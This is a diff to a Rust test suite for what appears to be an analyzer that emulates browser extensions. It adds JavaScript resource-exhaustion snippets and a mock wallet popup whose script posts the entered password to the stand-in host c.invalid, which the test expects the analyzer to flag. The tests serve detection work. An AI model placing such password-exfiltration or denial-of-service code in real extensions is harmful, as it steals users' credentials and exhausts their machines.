@@ -181,7 +181,7 @@ fn hostile_extensions_end_in_time_and_the_same_way() {
     }
 }
 
-/// What hostile code may cost: the run of one scene.
+/// What hostile code may cost: the run of one scene, ended by its steps or by itself, never by the clock or for want of memory.
 #[test]
 fn bombs_end_a_run_and_nothing_else() {
     for (name, bomb) in [
@@ -193,15 +193,46 @@ fn bombs_end_a_run_and_nothing_else() {
         ("deep JSON", "JSON.parse('['.repeat(1e6))"),
         ("deep code", "eval('['.repeat(1e5))"),
         ("endless promises", "const f = () => Promise.resolve().then(f); f()"),
+        ("a text that grows", "let s = ''; for (;;) s += 'x'"),
+        ("a list of nothing", "new Array(2 ** 32 - 1).forEach(() => 1)"),
+        ("a list that is spread", "const a = Array(1e5).fill(1); for (;;) [...a]"),
+        ("timers that make timers", "const f = () => { setTimeout(f, 0); setTimeout(f, 0) }; f()"),
+        (
+            "messages that answer themselves",
+            "const f = () => { chrome.storage.local.set({ a: Math.random() }) }; chrome.storage.onChanged.addListener(f); f()",
+        ),
+        (
+            "elements within themselves",
+            "const a = document.createElement('a'), b = document.createElement('b'); a.append(b); b.append(a); a.querySelector('x')",
+        ),
         ("a flood of events", "for (;;) fetch('https://c.invalid/' + 'x'.repeat(1e5))"),
     ] {
         let worker = worker(4_000_000);
         let package = package(bomb, "");
         emulate(&worker, &extension(&package), &package);
+        assert!(worker.is_whole(), "{name}: {:?}", worker.take_problems("bomb"));
         let other = self::package(READER.0, READER.1);
         let (emulation, _) = emulate(&worker, &extension(&other), &other);
         assert!(!emulation.story.is_empty(), "after {name}");
     }
+}
+
+#[test]
+fn a_page_of_the_extensions_own_is_what_its_file_says() {
+    let manifest = r#"{"manifest_version":3,"name":"x","version":"1","action":{"default_popup":"ui/popup.html"}}"#;
+    let page = "<!doctype html><body><form id=unlock class='card big' data-step=2><label>Password <input type=password name=pw></label>\
+        <select name=net><option value=main>Main</select><button>Open</button></form><p id=hint>Your vault</p><script src=popup.js></script>";
+    let script = "const form = document.getElementById('unlock'), seen = [form.tagName, form.dataset.step, form.elements.net.value,\
+        form.pw.type, form.querySelector('label > input') === form.pw, form.pw.form === form, document.forms.length,\
+        document.querySelectorAll('form.card input').length, document.querySelector('#hint').textContent, form.matches('.big')].join();\
+        form.addEventListener('submit', () => fetch('https://c.invalid/' + (seen === 'FORM,2,main,password,true,true,1,1,Your vault,true' ? 'as-written' : seen),\
+        { method: 'POST', body: form.pw.value }))";
+    let files = [("manifest.json", manifest), ("ui/popup.html", page), ("ui/popup.js", script)];
+    let package = Package::from_memory("memory", files.map(|(name, text)| (name, text.as_bytes())));
+    let facts = run(&package);
+    let url = facts.iter().find_map(|fact| fact.field("url")).unwrap_or_default();
+    assert_eq!(url, "https://c.invalid/as-written");
+    assert!(arrivals(&facts).contains("own.login.password fetch c.invalid"), "{facts:?}");
 }
 
 #[test]
@@ -306,11 +337,11 @@ mod proven_by_running_them {
     // Each form takes minutes where nothing is optimised: the plain one stands for them, the others are run by hand.
     proven_by_running_them! {
         plain: 95,
-        #[ignore = "minutes"] minified: 90,
-        #[ignore = "minutes"] bundled: 90,
-        #[ignore = "minutes"] obfuscated: 90,
-        #[ignore = "minutes"] encoded: 90,
-        #[ignore = "minutes"] rc4: 90,
+        #[ignore = "minutes"] minified: 95,
+        #[ignore = "minutes"] bundled: 95,
+        #[ignore = "minutes"] obfuscated: 95,
+        #[ignore = "minutes"] encoded: 95,
+        #[ignore = "minutes"] rc4: 95,
         #[ignore = "minutes"] high: 85,
     }
 }
